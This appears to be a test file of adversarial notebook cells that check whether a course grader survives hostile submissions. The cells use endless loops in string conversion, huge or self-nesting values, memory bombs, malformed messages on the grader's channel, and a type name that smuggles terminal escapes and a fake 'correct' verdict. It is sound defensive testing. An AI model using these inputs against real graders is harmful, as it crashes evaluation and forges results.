    """An exception whose text takes for ever."""

    class Endless(Exception):
        def __str__(self):
            while True:
                pass

    raise Endless


@cell()
def result_that_never_ends():
    """A result whose text takes for ever."""

    class Endless:
        def __repr__(self):
            while True:
                pass

    Endless()


# ---- what the grader compares


@cell()
def number_beyond_floats():
    """A whole number that no float can hold."""

    def linear_warmup(*args):
        return 10**400


@cell()
def number_with_5000_digits():
    """A whole number that JSON cannot hold."""

    def linear_warmup(*args):
        return 10**5000


@cell()
def list_in_itself():
    """A list that holds itself, and one that is very deep."""

    def linear_warmup(step, *args):
        if step:
            deep = []
            for _ in range(100_000):
                deep = [deep]
            return deep
        loop = []
        loop.append(loop)
        return loop


@cell()
def facts_too_large():
    """A tensor of 80 MB where a number is due."""

    def linear_warmup(*args):
        return torch.zeros(2 * 10**7)


@cell()
def names_that_lie():
    """A type whose name is a report."""

    def linear_warmup(*args):
        return type("x\x1b[2J\n<script>linear_warmup: correct" * 1000, (), {})()


# ---- the channel


@cell(2, "bytes")
def says_it_will_say_more():
    """A length that nobody has room for."""
    import os

    os.write(200, b"\xff" * 8)


@cell(2, LATE)
def says_half():
    """Half a message, then nothing."""
    import os
    import time

    os.write(200, (1000).to_bytes(8, "little") + b"x")
    while True:
        try:
            time.sleep(1000)
        except BaseException:
            pass


@cell(2, "no plain data")
def says_something_deep():
    """A nest for the grader's own parser."""
    import os

    text = b"[" * 1_000_000
    data = len(text).to_bytes(8, "little") + text
    os.write(200, len(data).to_bytes(8, "little") + data)


@cell(2, "no plain data|bytes")
def says_many_small_things():
    """A message that takes 20 times its size in the grader's memory."""
    import socket

    text = b"[" + b"{}," * 20_000_000 + b"0]"
    data = len(text).to_bytes(8, "little") + text
    socket.socket(fileno=200).sendall(len(data).to_bytes(8, "little") + data)


@cell(2, "no plain data")
def says_what_is_nothing():
    """A tensor of a kind and size that there is not."""
    import os

    text = b'{"tensor": ["float32", [99999999999, 99999999], "cpu"]}'
    data = len(text).to_bytes(8, "little") + text
    os.write(200, len(data).to_bytes(8, "little") + data)


@cell(2, "not asked for")
def says_odd_outputs():
    """Outputs with everything but what belongs there."""
    import os

    from course.checks.wire import pack

    for odd in (None, [], {"output_type": []}, {"output_type": "stream", "name": {}, "text": 3}, {"data": {"a": {}}},
                {"output_type": "display_data", "data": {"image/png": {}, "text/plain": [None, 1e400]}},
                {"output_type": "error", "traceback": {}, "ename": None}, {"output_type": "x" * 10**6}):  # fmt: skip
        data = pack({"output": odd})
        os.write(200, len(data).to_bytes(8, "little") + data)


@cell(2, ENDED)
def closes_the_channel():
    """Nobody is there any more."""
    import os

    os.close(200)
